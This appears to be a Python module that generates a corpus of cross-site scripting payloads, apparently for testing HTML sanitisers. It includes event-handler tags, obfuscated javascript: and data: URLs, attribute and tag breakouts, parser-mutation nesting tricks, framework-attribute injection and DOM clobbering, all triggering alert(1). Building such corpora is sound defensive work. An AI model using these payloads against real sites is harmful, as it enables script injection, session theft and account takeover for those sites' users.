"""Markup that runs, or turns into markup that runs when a browser or sanitiser reads it again."""

from itertools import product

RUN = "alert(1)"
IMG = f"<img src=x onerror={RUN}>"
COLON, TAB, QUOTE = "&colon;", "&Tab;", "&quot;"

# Elements that a parser reads in another way than what is around them.
_FOREIGN = [
    "svg",
    "math",
    "svg><desc",
    "svg><foreignobject",
    "math><mtext",
    "math><annotation-xml",
    "svg><title",
]
_RAW_TEXT = ["style", "xmp", "noscript", "iframe", "noembed", "noframes", "textarea", "title", "template"]
_TABLES = ["table", "table><tr", "table><caption", "select", "select><option", "form", "button", "p", "a"]
_EVENTS = {
    "img src=x": "onerror",
    "image src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "video><source": "onerror",
    "input autofocus": "onfocus",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "details open": "ontoggle",
    "marquee": "onstart",
    "style": "onload",
    "iframe": "onload",
    "a href=# autofocus tabindex=1": "onfocus",
    "svg><animate attributename=x dur=1s": "onbegin",
    "p contenteditable autofocus": "onfocus",
    "custom-tag tabindex=1 autofocus": "onfocus",
}
_GLUE = [" ", "/", "\t", "\n", "\x0c", " x=y ", "/x/"]
_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript{COLON}{RUN}",
    f"java{TAB}script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6a;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript://via.nl/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"//elders.example/{RUN}",
    f"\\\\elders.example/{RUN}",
]
_CARRIERS = [
    "<a href='{0}'>x</a>",
    "<iframe src='{0}'></iframe>",
    "<object data='{0}'></object>",
    "<embed src='{0}'>",
    "<form action='{0}'><button>x</button></form>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>",
    "<svg><use href='{0}'></use></svg>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href='{0}'>",
]
_BREAKOUTS = [
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    '" autofocus onfocus={0} x="',
    "' autofocus onfocus={0} x='",
    "` onmouseover={0} x=`",
    '" style=animation-name:x onanimationstart={0} "',
    '"-{0}-"',
    "'-{0}-'",
    '\\"-{0}//',
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script\n>{0}</script\n>",
    "<script/x>{0}</script>",
    "<ſcript>{0}</ſcript>",
    "＜script＞{0}＜/script＞",
    "<div hx-on:load='{0}' hx-get='/' hx-trigger='load'>x</div>",
    "<div data-hx-on--load='{0}' data-hx-trigger='load'>x</div>",
    "<div hx-trigger='every 1s[{0}]' hx-get='/'>x</div>",
    "<div hx-vals='js:{{x: {0}}}' hx-get='/' hx-trigger=load>x</div>",
    "<div data-controller='w-init' data-action='{0}'>x</div>",
    "<div x-init='{0}'>x</div>",
    "<link rel=stylesheet href='javascript:{0}'>",
    "<style>@import 'javascript:{0}';</style>",
    "<form id=x></form><button form=x formaction='javascript:{0}'>x</button>",
    "<img name=body><img id=getElementById src=x onerror={0}>",
]


def _nested() -> list[str]:
    """An image in a comment, attribute or text that is none once the parser changes its mind."""
    outer = [*_FOREIGN, *_TABLES]
    shapes = [
        "<{outer}><{inner}><!--</{inner}>{img}-->",
        "<{outer}><{inner}><a title='</{inner}>{img}'>",
        "<{outer}><{inner}><!--</{inner}><p title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    ]
    return [
        shapes[(one + two) % len(shapes)].format(outer=a, inner=b, img=IMG)
        for (one, a), (two, b) in product(enumerate(outer), enumerate(_RAW_TEXT))
    ]


def _restructured() -> list[str]:
    """Nesting that the parser takes apart and puts together otherwise."""
    deep = "<form><math><mtext></form><form><mglyph><style></math>"
    moved = "<math><mtext><table><mglyph><style><!--</style>"
    carried = [f"{deep}{IMG}", f"{moved}<img title='--&gt;{IMG}'>", f"<svg></p><style><a id='</style>{IMG}'>"]
    carried += [
        f"<{a}><{b}></{a}>{IMG}</{b}>" for a, b in product(["b", "a", "p", "table"], ["i", "td", "svg"])
    ]
    carried += [f"<!{start}{IMG}>" for start in ("--", "-", "[CDATA[", "doctype ", "ENTITY x ", "--!><")]
    return [*carried, f"<?xml {IMG}?>", f"<%{IMG}%>", f"</{IMG}", f"<{IMG}", f"{IMG[:-1]}", f"{IMG[:-1]}<p>"]


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    events = [
        f"<{tag}{glue}{event}{same}{RUN}>"
        for (tag, event), (glue, same) in product(
            _EVENTS.items(), [*((glue, "=") for glue in _GLUE), (" ", " = "), (" ", "=\t")]
        )
    ]
    links = [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
    broken = [one.format(RUN) for one in _BREAKOUTS]
    return list(dict.fromkeys([*_nested(), *_restructured(), *broken, *events, *links]))
